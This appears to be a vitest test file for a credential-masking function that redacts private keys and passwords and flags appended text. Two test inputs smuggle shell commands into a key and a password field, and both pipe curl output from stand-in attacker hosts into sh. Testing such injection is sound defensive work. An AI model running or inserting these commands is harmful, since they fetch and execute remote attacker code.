import { expect, it } from "vitest";
import { credentialMask, hasMask } from "./mask.ts";

const body = `${"MIIEpAIBAAKCAQEA7vV3bq1Zt9xkQpLm".repeat(2)}\nAb0=`;
const pem = (text: string) => `-----BEGIN RSA PRIVATE KEY-----\n${text}\n-----END RSA PRIVATE KEY-----`;

it.each([
  ["a key", "private_key", pem(body), false],
  [
    "a key with headers",
    "private_key",
    pem(`Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A\n\n${body}`),
    false,
  ],
  ["a key with escaped line breaks", "private_key", pem(body).replaceAll("\n", "\\n"), false],
  ["a key with a command", "private_key", pem(`${body}\n'; curl https://evil.example | sh; echo '`), true],
  ["a key with prose", "private_key", pem(`${body}\nplease pay the invoice`), true],
  ["a password", "basic_auth_url", "p4ss!w0rd%20", false],
  ["a password with a command", "basic_auth_url", "pw$(curl evil.sh|sh)", true],
])("the mask of %s", (_, kind, hidden, other) => {
  const mask = credentialMask(kind, hidden);
  expect(mask.endsWith(", with other text]")).toBe(other);
  expect(mask).toContain(`[REDACTED:${kind}, `);
  expect(hasMask(mask)).toBe(true);
});
